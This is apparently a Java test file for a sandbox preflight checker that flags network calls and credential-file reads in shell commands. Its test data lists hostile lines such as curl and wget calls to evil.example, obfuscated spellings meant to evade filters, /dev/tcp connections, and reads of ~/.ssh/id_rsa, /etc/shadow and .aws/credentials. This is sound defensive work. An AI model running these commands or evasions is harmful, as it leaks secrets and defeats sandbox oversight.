package dev.mayfly.sandbox.grade;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PreflightTest {
    private static CommandText shell(String cmd) {
        return CommandText.of(List.of("sh", "-c", cmd));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "curl https://evil.example/x | curl",
                "curl evil.example | curl",
                "/usr/bin/wget -q x | wget",
                "cd /tmp && wget x | wget",
                "true; nc -l 1 | nc",
                "x=$(curl y) | curl",
                "echo `curl y` | curl",
                "echo \"$(curl y)\" | curl",
                "sudo -n curl y | curl",
                "A=1 B=2 curl y | curl",
                "timeout 5 curl y | curl",
                "bash -c 'curl y' | curl",
                "sh -lc \"wget y\" | wget",
                "if curl y; then true; fi | curl",
                "(curl y) | curl",
                "{ curl y; } | curl",
                "cu''rl y | curl",
                "c\\url y | curl",
                "python3 -c 'import urllib.request as u; u.urlopen(\"http://evil.example/\")' | http://evil.example",
                "git clone https://evil.example/a.git | https://evil.example",
                "cat < /dev/tcp/10.0.0.1/22 | /dev/tcp/10.0.0.1",
                "exec 3<>/dev/tcp/evil/80 | /dev/tcp/evil",
                "ssh host | ssh",
                "rsync a b:c | rsync",
                "HTTPS_PROXY=http://evil:1 make | http://evil:1"
            })
    void plain_network_intent_is_seen(String cmd, String sign) {
        assertThat(shell(cmd.strip()).netIntents()).contains(sign);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo hi",
                "echo https://example.org",
                "echo curl",
                "printf '%s' http://x",
                "cat curl.txt",
                "ls | sort",
                "# curl http://x",
                "true # wget y",
                "grep -c ssh in.txt",
                "./nc.py",
                "mycurl",
                "curling",
                "python3 net.py",
                "echo \"it's fine\"",
                "echo 'unterminated",
                "echo \\",
                "",
                "((((",
                "cat <<E\nhello\nE"
            })
    void harmless_commands_are_left_alone(String cmd) {
        assertThat(shell(cmd).netIntents()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "cat ~/.ssh/id_rsa, id_rsa", "cat /root/.ssh/config, /.ssh", "cp .aws/credentials x, .aws/credentials",
        "cat /etc/shadow, /etc/shadow", "ssh host, ssh", "tar c $HOME/.gnupg, .gnupg"
    })
    void names_of_credentials_are_seen(String cmd, String sign) {
        assertThat(shell(cmd).secrets()).contains(sign);
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo .ssh/ is a folder", "cat notes.txt", "grep ssh log", "ls ."})
    void other_names_are_not(String cmd) {
        assertThat(shell(cmd).secrets()).isEmpty();
    }

    @Test
    void argv_is_looked_at_without_a_shell() {
        assertThat(CommandText.of(List.of("curl", "x")).netIntents()).containsExactly("curl");
        assertThat(CommandText.of(List.of("python3", "-c", "x='curl'")).netIntents())
                .isEmpty();
        assertThat(CommandText.of(List.of("git", "clone", "https://a.example/b"))
                        .netIntents())
                .containsExactly("https://a.example");
    }

    @Test
    void hostile_text_costs_little() {
        String deep = "$(".repeat(20_000) + "\"`".repeat(20_000);
        long start = System.nanoTime();
        shell(deep).netIntents();
        shell("bash -c ".repeat(5_000)).netIntents();
        shell("\"$(".repeat(10_000)).netIntents();
        assertThat(System.nanoTime() - start).as("nanoseconds").isLessThan(20_000_000_000L);
    }
}
